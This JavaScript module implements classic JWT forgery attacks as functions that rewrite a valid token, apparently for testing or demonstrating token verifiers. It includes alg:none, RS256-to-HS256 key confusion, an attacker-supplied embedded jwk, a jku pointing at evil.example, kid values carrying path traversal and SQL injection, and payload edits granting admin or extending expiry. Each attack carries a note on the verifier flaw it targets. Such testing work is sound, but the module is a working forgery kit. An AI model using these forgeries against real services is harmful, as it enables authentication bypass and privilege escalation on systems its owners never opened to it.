// The classic attacks on a JWT, each as a change of the token at hand.

import { encode, encodeJson, encodeText, parse } from "./jws.js";
import { hmac } from "./keys.js";

const join = (...segments) => segments.join(".");

/** The token with another header, everything else as it was. */
const withHeader = (parsed, change) => join(encodeJson({ ...parsed.header.value, ...change }), parsed.segments[1], parsed.segments[2]);
const withPayload = (parsed, change) => join(parsed.segments[0], encodeJson({ ...parsed.payload.value, ...change }), parsed.segments[2]);

/** The public key as a PEM, out of the JWK that everybody can fetch. */
export async function publicPem(jwk) {
  const key = await crypto.subtle.importKey("jwk", { kty: jwk.kty, n: jwk.n, e: jwk.e }, { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" }, true, ["verify"]);
  const spki = new Uint8Array(await crypto.subtle.exportKey("spki", key));
  const body = btoa(String.fromCharCode(...spki)).match(/.{1,64}/g).join("\n");
  return `-----BEGIN PUBLIC KEY-----\n${body}\n-----END PUBLIC KEY-----\n`;
}

async function confuse(parsed, jwks) {
  const jwk = jwks.keys.find((key) => key.kid === parsed.header.value.kid) ?? jwks.keys[0];
  const pem = await publicPem(jwk);
  const head = encodeJson({ ...parsed.header.value, alg: "HS256" });
  const body = encodeJson({ ...parsed.payload.value, role: "admin" });
  return join(head, body, encode(await hmac(new TextEncoder().encode(pem), `${head}.${body}`)));
}

async function ownKey(parsed) {
  const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign", "verify"]);
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", pair.publicKey);
  const head = encodeJson({ ...parsed.header.value, alg: "ES256", jwk: { kty, crv, x, y } });
  const body = encodeJson({ ...parsed.payload.value, role: "admin" });
  const signature = await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, pair.privateKey, new TextEncoder().encode(`${head}.${body}`));
  return join(head, body, encode(new Uint8Array(signature)));
}

function duplicated(parsed) {
  const text = JSON.stringify(parsed.payload.value).replace(/^\{/, '{"role":"admin",');
  return join(parsed.segments[0], encodeText(text), parsed.segments[2]);
}

function bent(parsed) {
  const last = parsed.segments[2];
  const other = last.at(-6) === "A" ? "B" : "A";
  return join(parsed.segments[0], parsed.segments[1], last.slice(0, -6) + other + last.slice(-5));
}

/** Every attack: its name, what it hopes for, and the change. */
export const ATTACKS = [
  { id: "none", name: "alg: none", hope: "a verifier that lets the token say it needs no seal", forge: (parsed) => join(encodeJson({ ...parsed.header.value, alg: "none" }), encodeJson({ ...parsed.payload.value, role: "admin" }), "") },
  { id: "confusion", name: "RS256 → HS256", hope: "a verifier that takes the public key for a shared secret because the header says HMAC", forge: confuse },
  { id: "kid-path", name: "kid: ../../dev/null", hope: "a verifier that opens the file a kid names, and finds an empty key in it", forge: (parsed) => withHeader(parsed, { kid: "../../../../dev/null" }) },
  { id: "kid-sql", name: "kid: ' OR 1=1", hope: "a verifier that builds a query out of the kid", forge: (parsed) => withHeader(parsed, { kid: "x' OR '1'='1" }) },
  { id: "own-key", name: "Bring my own key", hope: "a verifier that believes the key in the header (jwk)", forge: ownKey },
  { id: "far-key", name: "Point at my key", hope: "a verifier that fetches the key from wherever the header says (jku)", forge: (parsed) => withHeader(parsed, { jku: "https://evil.example/keys.json" }) },
  { id: "promote", name: "role: admin", hope: "a verifier that reads the payload and forgets the seal", forge: (parsed) => withPayload(parsed, { role: "admin" }) },
  { id: "prolong", name: "exp: next year", hope: "a pass that never runs out", forge: (parsed) => withPayload(parsed, { exp: parsed.payload.value.exp + 31536000 }) },
  { id: "strip", name: "Tear the seal off", hope: "a verifier that checks a signature only where there is one", forge: (parsed) => join(parsed.segments[0], parsed.segments[1], "") },
  { id: "bend", name: "Bend the seal", hope: "luck", forge: bent },
  { id: "twice", name: "role twice", hope: "two readers that disagree about which role counts", forge: duplicated },
  { id: "pad", name: "Add padding", hope: "a second spelling of one token, which a list of refused tokens does not know", forge: (parsed) => `${parsed.token}=` },
  { id: "crit", name: "crit: unheard-of", hope: "a verifier that skips what it does not understand", forge: (parsed) => withHeader(parsed, { crit: ["exp"] }) },
];

/** Forges, from a good token. */
export const forge = (attack, token, jwks) => attack.forge(parse(token), jwks);
